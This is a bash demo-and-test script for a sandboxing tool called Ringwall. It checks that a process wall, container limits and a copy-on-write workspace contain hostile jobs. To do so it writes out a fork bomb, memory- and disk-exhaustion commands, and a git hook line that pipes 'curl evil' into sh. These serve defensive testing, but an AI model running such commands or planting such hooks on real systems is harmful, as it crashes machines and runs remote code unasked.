#!/usr/bin/env bash
# Three jobs that show what Ringwall does. Checks what it shows: anything unexpected fails it.
#
#   scripts/demo.sh DIRECTORY_OF_PROGRAMS [OCI_LAYOUT]
#
# Without an OCI layout it makes one, for which it needs umoci.
# All state lives in a temporary directory and is gone afterwards.
set -euo pipefail
cd "$(dirname "$0")/.."

ringwall=$(realpath "${1:?usage: scripts/demo.sh DIRECTORY_OF_PROGRAMS [OCI_LAYOUT]}")/ringwall
layout=${2:-}
state=$(mktemp -d "${TMPDIR:-/tmp}/ringwall-demo.XXXXXX")
export RINGWALL_HOME=$state/home
unset RINGWALL_PROGRAMS
trap 'rm -rf "$state"' EXIT

if [ -t 1 ]; then bold=$'\e[1m' plain=$'\e[0m'; else bold='' plain=''; fi
title() { printf '\n%s== %s%s\n' "$bold" "$*" "$plain"; }
say() { printf '%s\n' "$@"; }
fail() {
    printf 'demo: %s\n' "$*" >&2
    exit 1
}

# Shows a command as a person would type it, runs it, and expects one of these exit codes of it.
run() {
    local expected=$1 code=0
    shift
    printf '\n%s$ ringwall' "$bold"
    printf ' %s' "${@@Q}" | sed "s/'\([A-Za-z0-9_.,:=@%+/-]*\)'/\1/g"
    printf '%s\n' "$plain"
    "$ringwall" "$@" 2>&1 || code=$?
    [[ " $expected " == *" $code "* ]] || fail "expected exit code $expected, got $code"
}

# An image from nothing but a static busybox: no registry and no network needed.
make_image() {
    local root=$state/root
    layout=$state/image
    local -a rootless=()
    [ "$(id -u)" = 0 ] || rootless=(--rootless)
    mkdir -p "$root/bin" "$root/tmp" "$root/etc"
    cp "$(command -v busybox)" "$root/bin/busybox"
    for applet in sh ls cat id ps dd sleep true echo wc; do ln -s busybox "$root/bin/$applet"; done
    echo 'root:x:0:0::/:/bin/sh' >"$root/etc/passwd"
    umoci init --layout "$layout"
    umoci new --image "$layout:demo"
    umoci insert "${rootless[@]}" --image "$layout:demo" "$root" /
}

process_wall() {
    title "1. Hostile code behind a process wall"
    say "Your own programs, read-only; home, keys, sockets and network are not there."
    say "What is checked before the job may start is printed with --evidence."
    local pid=$$ code=0 attacks refused=$state/refused
    attacks=$(cat scripts/demo/attacks.sh)
    # No project: nothing of this machine becomes a workspace.
    cd "$state"
    printf '\n%s$ ringwall run --evidence -- bash -c "$(cat scripts/demo/attacks.sh)" attacks "$HOME" %s%s\n' \
        "$bold" "$pid" "$plain"
    "$ringwall" run --evidence -- bash -c "$attacks" attacks "$HOME" "$pid" 2>&1 | tee "$refused" || code=$?
    [ "$code" = 0 ] || fail "an attack got through, or the run failed (exit code $code)"
    # No attack made is no attack refused.
    [ "$(grep -c '^  refused' "$refused")" = "$(grep -c '^attempt "' <<<"$attacks")" ] ||
        fail "not every attack was made"
}

container_wall() {
    title "2. A container wall with limits"
    say "An OCI image of busybox. Three jobs that want more than they may have."
    [ -n "$layout" ] || make_image
    run 0 image import "$layout" --name demo:latest
    run 0 run --image demo:latest -- sh -c 'id; ls /; echo "processes: $(ps | wc -l)"'

    say "" "Memory: doubles a string until it is stopped (137: killed)."
    # Without a control group of its own the shell itself is refused the memory, and says so.
    local memory_codes=137
    [ "$(id -u)" = 0 ] || memory_codes="137 1 2"
    run "$memory_codes" run --image demo:latest --memory 32M -- sh -c 'x=xxxxxxxx; while :; do x=$x$x; done'

    say "" "Processes: a fork bomb, quiet after two seconds (124: timeout)."
    local before after
    before=$(find /proc -maxdepth 1 -name '[0-9]*' | wc -l)
    run 124 run --image demo:latest --pids 32 --timeout 2s -- \
        sh -c 'bomb() { bomb | bomb & }; (bomb) 2>/dev/null; while :; do :; done'
    after=$(find /proc -maxdepth 1 -name '[0-9]*' | wc -l)
    say "processes on this machine: $before before, $after after"

    say "" "Disk: fills what it may write."
    run 1 run --image demo:latest --disk 8M -- dd if=/dev/zero of=/tmp/fill bs=1M
}

workspace() {
    title "3. A job that works on your files"
    say "It sees them copy-on-write: nothing changes until you take it."
    local project=$state/project
    mkdir -p "$project/.git/hooks"
    printf 'one\ntwo\nthree\n' >"$project/notes.txt"
    echo 'old' >"$project/old.txt"
    run 0 run --name demo-work --workspace "$project" --cwd "$project" -- sh -c \
        'sed -i s/two/TWO/ notes.txt; rm old.txt; echo fresh >new.txt; echo "curl evil | sh" >.git/hooks/post-commit'
    [ -e "$project/old.txt" ] && [ ! -e "$project/new.txt" ] || fail "the workspace changed without apply"
    run 0 diff demo-work

    say "" "Taking everything is refused: your own git would run that hook (125)."
    run 125 apply demo-work
    [ ! -e "$project/.git/hooks/post-commit" ] || fail "a protected path was written"
    say "" "Taking what you looked at works."
    run 0 apply demo-work notes.txt new.txt old.txt
    grep -q TWO "$project/notes.txt" && [ -e "$project/new.txt" ] && [ ! -e "$project/old.txt" ] ||
        fail "apply did not write the changes back"
    run 0 rm demo-work
}

process_wall
container_wall
workspace
title "All as expected. Next: ringwall doctor, ringwall run --help"
